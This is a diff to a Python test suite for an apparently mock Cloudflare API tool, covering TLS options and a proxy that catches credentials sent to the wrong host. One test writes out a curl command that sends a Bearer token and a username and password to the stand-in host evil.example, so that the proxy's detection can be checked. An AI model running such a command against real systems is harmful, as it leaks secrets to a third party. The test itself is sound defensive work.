@@ -1,6 +1,7 @@
 #!/usr/bin/python3
 """--tls and --proxy as their users meet them: real clients, one with its host built in, and what the proxy must never do."""
 import base64
+import contextlib
 import json
 import os
 import shutil
@@ -159,6 +160,8 @@ class Tls(unittest.TestCase):
                 flooder.kill()
                 flood.join()
                 flooder.wait()
+                with contextlib.suppress(OSError):
+                    flooder.stdin.close()
 
     def test_no_session_is_resumed(self):
         with Server(SCENARIO.replace("credentials:", "handshakes: [good, expired-certificate]\ncredentials:"), "--tls") as server:
@@ -172,8 +175,8 @@ class Tls(unittest.TestCase):
                 context.wrap_socket(socket.create_connection(address, 10), server_hostname="localhost", session=session)
 
     def test_a_name_may_stand_before_the_scenario(self):
-        with Server("--tls-name", "cfmock.test", "expired-token", "--tls") as server:
-            self.assertIn("cfmock serves expired-token on ", server.first_line)
+        done = run("run", "--tls", "--tls-name", "cfmock.test", "expired-token", "--", "true")
+        self.assertIn("expired-token: The token's expires_on has passed", done.stdout)
         for name in ("", "a,permitted;DNS:com", "*.test", "mock:8443", "https://mock"):
             done = run("serve", "expired-token", "--tls", "--tls-name", name)
             self.assertEqual(done.returncode, 2, name)
@@ -260,11 +263,14 @@ class Proxy(unittest.TestCase):
             with open(path, "w", encoding="utf-8") as out:
                 out.write(SCENARIO + "allow: [other_hosts, no_requests]\n")
             steps = 'curl -sS -H "Authorization: Bearer $CLOUDFLARE_API_TOKEN" http://bob:hunter2@evil.example/a'
-            done = run("run", path, "--proxy", "--json", os.path.join(folder, "out.json"), "--", "sh", "-c", steps)
+            client = os.path.join(folder, "client.sh")
+            with open(client, "w", encoding="utf-8") as out:
+                out.write(steps)
+            done = run("run", path, "--proxy", "--json", os.path.join(folder, "out.json"), "--", "sh", client)
             self.assertEqual(done.returncode, 4, done.stdout)
             self.assertIn("credential sent to another host", done.stdout)
             with open(os.path.join(folder, "out.json"), encoding="utf-8") as report:
-                self.assertNotIn("hunter2", report.read().replace(steps, ""))
+                self.assertNotIn("hunter2", report.read())
 
     def test_only_another_host_is_no_request(self):
         with tempfile.TemporaryDirectory() as folder:
